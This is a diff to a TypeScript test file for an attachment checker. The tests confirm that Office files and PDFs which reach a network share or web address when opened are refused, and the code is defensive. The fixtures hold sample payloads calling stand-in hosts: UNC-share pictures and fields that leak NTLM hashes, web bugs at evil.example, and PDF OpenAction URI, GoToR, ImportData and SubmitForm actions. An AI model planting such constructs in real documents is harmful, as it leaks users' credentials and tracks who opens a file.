@@ -337,6 +337,228 @@ describe("sniffing: the content decides", () => {
   });
 });
 
+describe("what reaches another computer when the center opens it (attack-report #1, #2): refused, what was found named", () => {
+  // A share (\\host\share) opened by Word, Excel, WPS or a PDF reader on the reviewer's PC gets their Windows sign-in
+  // (an NTLM hash), a web address learns who opened the file when. A remote template was refused; a linked picture,
+  // a field loading a picture or text, a workbook's external link, a linked video, a PDF's GoToR/ImportData/SubmitForm
+  // and a URI action run on opening were let through. A link the reader clicks (a hyperlink, a PDF's link) is let be.
+  const UNC = "\\\\fileserver\\share\\x.png";
+  const LINKED_PICTURE =
+    "文档中的图片只是链接到该地址、没有保存在文档里（从网页复制的内容常带有这种图片），请把图片保存到本机后用“插入 → 图片”重新插入（不选“链接到文件”），删去原来的图片，再另存上传，或另存为 PDF 后上传";
+  const FIELD_PICTURE =
+    "请在 Word 或 WPS 中按 Alt+F9 显示域代码，找到 INCLUDEPICTURE 域删去（从网页复制的图片常是这种域），把图片保存到本机后用“插入 → 图片”重新插入，再另存上传，或另存为 PDF 后上传";
+
+  it("a linked picture on a share: its address and what to do said in full", async () => {
+    const file = await sample.docxPicture("link", UNC);
+    // the target as written in the relationship, \\fileserver\share\x.png
+    expect(refusal(() => sniffAttachment(file, "说明.docx")).zh).toBe(
+      `附件“说明.docx”是打开时会从网络地址“\\\\fileserver\\share\\x.png”载入图片的 Office 文档，不能上传：${LINKED_PICTURE}。可以上传的附件：${ACCEPTED_ATTACHMENTS}`,
+    );
+  });
+
+  it("an INCLUDEPICTURE field on a share (\\d: the picture not kept, fetched each time it is drawn): said in full", async () => {
+    // in a field's code a backslash is doubled: "\\\\fileserver\\share\\x.png" is \\fileserver\share\x.png
+    const file = await sample.docxBody(sample.wordField(' INCLUDEPICTURE "\\\\\\\\fileserver\\\\share\\\\x.png" \\d '));
+    expect(refusal(() => sniffAttachment(file, "说明.docx")).zh).toBe(
+      `附件“说明.docx”是打开或打印时会从网络地址“\\\\fileserver\\share\\x.png”载入图片（INCLUDEPICTURE 域）的 Office 文档，不能上传：${FIELD_PICTURE}。可以上传的附件：${ACCEPTED_ATTACHMENTS}`,
+    );
+  });
+
+  const R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+  it.each([
+    [
+      "a linked picture on a web server (a web bug)",
+      () => sample.docxPicture("link", "http://evil.example/b.png"),
+      "说明.docx",
+      "从网络地址“http://evil.example/b.png”载入图片的",
+    ],
+    [
+      "a linked picture at file://host/",
+      () => sample.docxPicture("link", "file://fileserver/share/x.png"),
+      "说明.docx",
+      "从网络地址“file://fileserver/share/x.png”载入图片的",
+    ],
+    [
+      "a picture pasted from a web page (INCLUDEPICTURE, w:fldSimple)",
+      () => sample.docxBody(`<w:p><w:fldSimple w:instr=' INCLUDEPICTURE "https://img.example.com/a.jpg" \\* MERGEFORMATINET '/></w:p>`),
+      "说明.docx",
+      "从网络地址“https://img.example.com/a.jpg”载入图片（INCLUDEPICTURE 域）的",
+    ],
+    [
+      "an INCLUDETEXT field",
+      () => sample.docxBody(sample.wordField(' INCLUDETEXT "http://evil.example/x.docx" ')),
+      "说明.docx",
+      "从网络地址“http://evil.example/x.docx”载入文字（INCLUDETEXT 域）的",
+    ],
+    [
+      "an INCLUDEPICTURE field split over runs, lower case, its path unquoted",
+      () =>
+        sample.docxBody(
+          `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> includepic</w:instrText></w:r><w:r><w:instrText>ture //fileserver/share/x.png</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
+        ),
+      "说明.docx",
+      "从网络地址“//fileserver/share/x.png”载入图片（INCLUDEPICTURE 域）的",
+    ],
+    [
+      "a LINK field to a workbook on a share",
+      () => sample.docxBody(sample.wordField(' LINK Excel.Sheet.12 "\\\\\\\\fileserver\\\\share\\\\统计.xlsx" "Sheet1!R1C1:R3C4" \\a \\f 4 \\h ')),
+      "说明.docx",
+      "从网络地址“\\\\fileserver\\share\\统计.xlsx”载入链接的对象（LINK 域）的",
+    ],
+    [
+      "an INCLUDEPICTURE field whose path a field within it makes (its address cannot be told)",
+      () =>
+        sample.docxBody(
+          `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "</w:instrText></w:r>${sample.wordField(" QUOTE 92 92 ")}<w:r><w:instrText>fileserver\\\\x.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
+        ),
+      "说明.docx",
+      "含有 INCLUDEPICTURE 域（载入图片）而载入的地址由其中的其他域生成、无法检查的 Office 文档",
+    ],
+    [
+      "a workbook's cells taken from a workbook on a share (an external link)",
+      () => sample.xlsxExternalLink("file:///\\\\fileserver\\share\\统计.xlsx"),
+      "明细.xlsx",
+      "载入其他工作簿的数据的 Office 文档，不能上传：表格中的公式引用了该地址的工作簿，请断开外部链接",
+    ],
+    ["a presentation's linked video on a share", () => sample.pptxLinkedMedia(`${R}/video`, "\\\\fileserver\\share\\v.mp4"), "汇报.pptx", "载入视频的"],
+    ["a presentation's linked sound on a web server", () => sample.pptxLinkedMedia(`${R}/audio`, "http://evil.example/a.mp3"), "汇报.pptx", "载入音频的"],
+    [
+      "a presentation's linked media (Microsoft's relationship)",
+      () => sample.pptxLinkedMedia("http://schemas.microsoft.com/office/2007/relationships/media", "http://evil.example/v.mp4"),
+      "汇报.pptx",
+      "载入音频或视频的",
+    ],
+    [
+      "any other external relationship on the network but a hyperlink (a mail merge's data source)",
+      () =>
+        sample.docxWithRelationship(
+          "word/_rels/settings.xml.rels",
+          `<Relationship Id="rId1" Type="${R}/mailMergeSource" Target="file:///\\\\fileserver\\share\\名单.xlsx" TargetMode="External"/>`,
+        ),
+      "说明.docx",
+      "载入外部内容的 Office 文档，不能上传：请删去文档中链接到该地址的内容或改为嵌入后另存上传",
+    ],
+  ] as const)("an Office document with %s is refused", async (_what, make, name, says) => {
+    const file = await make();
+    expect(refusal(() => sniffAttachment(file, name)).zh).toContain(says);
+  });
+
+  it("ordinary documents are taken: hyperlinks (to a web site, to a share), embedded pictures, fields and links to files on the PC", async () => {
+    for (const hyperlink of ["http://www.huantai.gov.cn/", "\\\\fileserver\\share\\通知.docx", "file://fileserver/share/通知.docx"]) {
+      expect(sniffAttachment(await sample.docxPicture("embed", "media/image1.png", hyperlink), "说明.docx").kind, hyperlink).toBe("docx");
+    }
+    // a picture linked from the PC (Word reads it from the disk), as a template on the PC is let be
+    expect(sniffAttachment(await sample.docxPicture("link", "file:///C:\\照片\\现场.jpg"), "说明.docx").kind).toBe("docx");
+    const fields = [
+      ' HYPERLINK "\\\\\\\\fileserver\\\\share\\\\通知.docx" ',
+      ' INCLUDEPICTURE "C:\\\\照片\\\\现场.jpg" \\* MERGEFORMAT ',
+      // a range "R1C1:R3C4" reads as a scheme ("R1C1:"): only a LINK's file is looked at
+      ' LINK Excel.Sheet.12 "D:\\\\统计\\\\2018年11月.xlsx" "Sheet1!R1C1:R3C4" \\a \\f 4 \\h ',
+      ' INCLUDETEXT "附件一.docx" 正文 ',
+      " PAGE \\* MERGEFORMAT ",
+    ];
+    expect(sniffAttachment(await sample.docxBody(fields.map((f) => sample.wordField(f, "1")).join("")), "说明.docx").kind).toBe("docx");
+    for (const target of ["file:///C:\\统计\\2018年11月.xlsx", "统计.xlsx"]) {
+      expect(sniffAttachment(await sample.xlsxExternalLink(target), "明细.xlsx").kind, target).toBe("xlsx");
+    }
+  });
+
+  const URI = "<</S /URI /URI (http://evil.example/opened)>>";
+  it("a PDF opening an address by itself (/OpenAction to a URI action): said in full", () => {
+    expect(refusal(() => sniffAttachment(sample.pdfWith("/OpenAction 3 0 R", URI), "整改报告.pdf")).zh).toBe(
+      `附件“整改报告.pdf”是含有打开文档、翻页或鼠标经过时自动访问网址的动作（URI）的 PDF，不能上传：打开或点击时会连接其他电脑或网址（可能把本机的登录凭据发给对方），请用“打印为 PDF”另存一份后上传。可以上传的附件：${ACCEPTED_ATTACHMENTS}`,
+    );
+  });
+
+  it.each([
+    [
+      "a URI action after a go-to on opening (/Next)",
+      () => sample.pdfWith("/OpenAction <</S /GoTo /D [3 0 R /Fit] /Next [4 0 R]>>", "<</Type /Page>>", URI),
+      "自动访问网址的动作（URI）",
+    ],
+    ["a URI action when a page opens (/AA /O)", () => sample.pdfWithPage("", `/AA <</O ${URI}>>`), "自动访问网址的动作（URI）"],
+    ["a URI action before printing (the document's /AA /WP)", () => sample.pdfWith("/AA 3 0 R", "<</WP 4 0 R>>", URI), "自动访问网址的动作（URI）"],
+    [
+      "a URI action when the mouse passes over a link (its /AA /E)",
+      () => sample.pdfWithPage("", "/Annots [4 0 R]", `<</Type /Annot /Subtype /Link /Rect [0 0 595 842] /AA <</E 5 0 R>>>>`, URI),
+      "自动访问网址的动作（URI）",
+    ],
+    [
+      "a URI action on opening, the key's name escaped and its type a reference",
+      () => sample.pdfWith("/Open#41ction 3 0 R", "<</S 4 0 R /URI (http://evil.example/)>>", "/U#52I"),
+      "自动访问网址的动作（URI）",
+    ],
+    [
+      "a URI action on opening kept in a compressed object stream",
+      () => {
+        const objects = Buffer.from(`3 0 ${URI}`, "latin1");
+        const data = deflateSync(objects);
+        return Buffer.concat([
+          Buffer.from(
+            "%PDF-1.7\n1 0 obj <</Type /Catalog /Pages 2 0 R /OpenAction 3 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n",
+            "latin1",
+          ),
+          Buffer.from(`4 0 obj <</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length}>> stream\n`, "latin1"),
+          data,
+          Buffer.from("\nendstream endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n", "latin1"),
+        ]);
+      },
+      "自动访问网址的动作（URI）",
+    ],
+    // wherever they are, a link's too: a lone attachment has no other file to go to and no form for the center to send
+    [
+      "a link opening a PDF on a share (GoToR, CVE-2018-4993)",
+      () => sample.pdfWithPage("", "/Annots [<</Subtype /Link /A <</S /GoToR /F (\\\\\\\\fileserver\\\\share\\\\x.pdf) /D [0 /Fit]>>>>]"),
+      "含有打开其他 PDF 文件的动作（GoToR）的 PDF",
+    ],
+    [
+      "a GoToE action",
+      () => sample.pdfWith("/OpenAction <</S /GoToE /F (\\\\\\\\fileserver\\\\share\\\\x.pdf) /T <</R /C /N (a)>>>>"),
+      "含有打开其他 PDF 文件的动作（GoToE）的 PDF",
+    ],
+    [
+      "form data imported from a share (ImportData)",
+      () => sample.pdfWith("/OpenAction <</S /ImportData /F (\\\\\\\\fileserver\\\\share\\\\x.fdf)>>"),
+      "从其他文件导入表单数据的动作（ImportData）",
+    ],
+    [
+      "a form sent to an address (SubmitForm)",
+      () => sample.pdfWith("/AcroForm <</Fields [3 0 R]>>", "<</FT /Btn /A <</S /SubmitForm /F <</FS /URL /F (http://evil.example/c)>>>>>>"),
+      "把表单提交到网络地址的动作（SubmitForm）",
+    ],
+  ] as const)("a PDF with %s is refused", (_what, make, says) => {
+    expect(refusal(() => sniffAttachment(make(), "整改报告.pdf")).zh).toContain(says);
+  });
+
+  it("an ordinary PDF is taken: links clicked (URI, to a page), opening at a page, a page's local action", () => {
+    // the opening destination names page 3, whose link to a web site is clicked: the page is not read as an action
+    const links = sample.pdfWithPage(
+      "/OpenAction [3 0 R /Fit] /Names <</Dests 6 0 R>>",
+      `/Annots [<</Type /Annot /Subtype /Link /Rect [72 700 200 720] /A ${URI}>> 4 0 R] /AA <</O <</S /Named /N /FirstPage>>>>`,
+      "<</Type /Annot /Subtype /Link /Rect [72 600 200 620] /A 5 0 R>>",
+      "<</S /URI /URI (\\\\\\\\fileserver\\\\share\\\\通知.pdf)>>",
+      "<</Names [(a) [3 0 R /Fit]]>>",
+    );
+    expect(sniffAttachment(links, "说明.pdf").kind).toBe("pdf");
+    // the opening action an object naming a destination
+    expect(sniffAttachment(sample.pdfWithPage("/OpenAction 4 0 R", "", "[3 0 R /XYZ null null 0]"), "说明.pdf").kind).toBe("pdf");
+  });
+
+  it("a PDF of more opening and additional actions than a real one has, or nested or referenced to be slow, is refused in words within bounds", () => {
+    const tangled = "结构异常（动作嵌套过深或引用过多）、无法检查其中有无自动执行的动作的 PDF";
+    const many = Buffer.from(`%PDF-1.7\n${"/AA <<>> ".repeat(10_001)}%%EOF\n`, "latin1");
+    expect(refusal(() => sniffAttachment(many, "x.pdf")).zh).toContain(tangled);
+    expect(sniffAttachment(Buffer.from(`%PDF-1.7\n${"/AA <<>> ".repeat(10_000)}%%EOF\n`, "latin1"), "x.pdf").kind).toBe("pdf");
+    expect(refusal(() => sniffAttachment(Buffer.from(`%PDF-1.7\n1 0 obj <</OpenAction ${"[".repeat(100_000)}`, "latin1"), "x.pdf")).zh).toContain(tangled);
+    // 400,000 objects of one number, each followed to the next: 2 s before the parse was bounded
+    const budget = fileBudget();
+    const referenced = Buffer.from(`%PDF-1.7\n1 0 obj <</OpenAction 2 0 R>>\n${"2 0 obj <</Next 2 0 R>>\n".repeat(400_000)}`, "latin1");
+    expect(pdfActiveContent(referenced, budget)?.what).toBe(tangled);
+    // MAX_ACTION_CHARS, 2 MB, is what may be parsed of the actions' values
+    expect(budget.scanned).toBeLessThanOrEqual(2 * 1024 * 1024 + 100);
+  });
+});
+
 const body = (bytes: Buffer) => Readable.from([bytes]);
 const staged = () => (existsSync(attachmentStagingDir) ? readdirSync(attachmentStagingDir).sort() : []);
 
